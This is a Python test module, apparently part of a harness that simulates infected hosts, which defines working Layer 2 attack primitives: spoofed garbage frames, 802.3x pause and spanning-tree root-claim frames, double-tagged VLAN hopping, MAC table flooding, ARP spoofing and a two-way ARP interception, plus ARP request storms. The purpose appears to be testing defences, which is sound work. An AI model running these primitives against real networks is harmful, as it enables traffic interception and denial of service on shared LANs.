"""Frames and ARP."""

from __future__ import annotations

import random
import struct
import time

from tests.attacks import frames
from tests.attacks.infected import Infected, seconds
from tests.attacks.moves import primitive


@primitive("wire.garbage")
def garbage(me: Infected, dice: random.Random) -> str:
    """Send frames of every kind to everybody, with sources of nobody."""
    ends = [frames.EVERYONE, me.server_mac(), me.victim(dice).hardware]
    sent = [
        frames.ethernet(
            dice.choice(ends), frames.made_up(), dice.randrange(1 << 16),
            dice.randbytes(dice.randrange(1, 1400)),
        )
        for _ in range(dice.randrange(1, 100))
    ]  # fmt: skip
    me.send(*sent)
    return f"{len(sent)} frames"


@primitive("wire.pause")
def pause(me: Infected, dice: random.Random) -> str:
    """Ask the wire to pause (802.3x), and to make this host the root of its tree (802.1D)."""
    stop = frames.ethernet(
        bytes.fromhex("0180c2000001"), me.own.hardware, 0x8808, struct.pack("!HH", 1, 0xFFFF)
    )
    root = bytes(8) + bytes(4) + bytes(8)
    bpdu = (
        b"\x42\x42\x03" + bytes(5) + root + bytes.fromhex("8001") + struct.pack("<4H", 0, 20, 2, 15)
    )
    tree = frames.ethernet(bytes.fromhex("0180c2000000"), me.own.hardware, len(bpdu), bpdu)
    me.send(*(dice.choice((stop, tree)) for _ in range(20)))
    return ""


@primitive("wire.tagged")
def tagged(me: Infected, dice: random.Random) -> str:
    """Send frames for other VLANs, with one tag and with two."""
    inner = frames.icmp(me.own.ip, me.victim(dice).ip, 8, 0, bytes(32))
    sent = []
    for number in dice.sample(range(1, 4095), 20):
        once = struct.pack("!HH", number, frames.IPV4) + inner
        twice = struct.pack("!HH", 1, frames.VLAN) + once
        payload = dice.choice((once, twice))
        sent.append(frames.ethernet(me.server_mac(), me.own.hardware, frames.VLAN, payload))
    me.send(*sent)
    return ""


@primitive("wire.table")
def table(me: Infected, dice: random.Random) -> str:
    """Fill the switch's table with made-up addresses."""
    count = dice.randrange(50, 500)
    me.send(
        *(frames.ethernet(frames.made_up(), frames.made_up(), 0x88B5, b"") for _ in range(count))
    )
    return f"{count} addresses"


@primitive("arp.claim", takes_place=True)
def claim(me: Infected, dice: random.Random) -> str:
    """Tell everybody that a sibling's address is this host's now."""
    victim = me.victim(dice)
    me.send(frames.arp(me.own.hardware, victim.ip))
    return victim.label


@primitive("arp.claim-server", takes_place=True)
def claim_server(me: Infected, dice: random.Random) -> str:
    """Tell a sibling that the server's address is this host's now."""
    victim = me.victim(dice)
    me.send(frames.arp(me.own.hardware, me.knows.server, to=victim.hardware))
    return victim.label


@primitive("arp.both-ways", takes_place=True)
def both_ways(me: Infected, dice: random.Random) -> str:
    """Step between a sibling and the server for a moment, and let nothing pass."""
    victim, mine = me.victim(dice), me.own.hardware
    for _ in seconds(dice.uniform(0.1, 0.8)):
        me.send(
            frames.arp(mine, me.knows.server, to=victim.hardware),
            frames.arp(mine, victim.ip, to=me.server_mac()),
        )
        time.sleep(0.1)
    return victim.label


@primitive("arp.answer", takes_place=True)
def answer(me: Infected, dice: random.Random) -> str:
    """Answer whoever asks for a sibling's address, as if that were on."""
    victim, answers = me.victim(dice), 0
    with me.wire(frames.ARP) as card:
        for rest in seconds(dice.uniform(0.2, 1.0)):
            card.settimeout(rest)
            try:
                asked = card.recv(2048)
            except TimeoutError:
                break
            if asked[20:22] == b"\0\x01" and asked[38:42] == frames.address(victim.ip):
                card.send(frames.arp(me.own.hardware, victim.ip, to=asked[6:12]))
                answers += 1
    return f"{answers} answers for {victim.label}"


@primitive("arp.probe")
def probe(me: Infected, dice: random.Random) -> str:
    """Ask for every address, again and again."""
    net = me.own.ip.rpartition(".")[0]
    sent = [
        frames.arp(
            me.own.hardware, me.own.ip, kind=frames.REQUEST, asks=f"{net}.{dice.randrange(256)}"
        )
        for _ in range(dice.randrange(50, 300))
    ]
    me.send(*sent)
    return f"{len(sent)} questions"


@primitive("arp.nonsense")
def nonsense(me: Infected, dice: random.Random) -> str:
    """Send ARP that is none."""
    me.send(
        *(
            frames.ethernet(
                frames.EVERYONE, me.own.hardware, frames.ARP, dice.randbytes(dice.randrange(46))
            )
            for _ in range(50)
        )
    )
    return ""
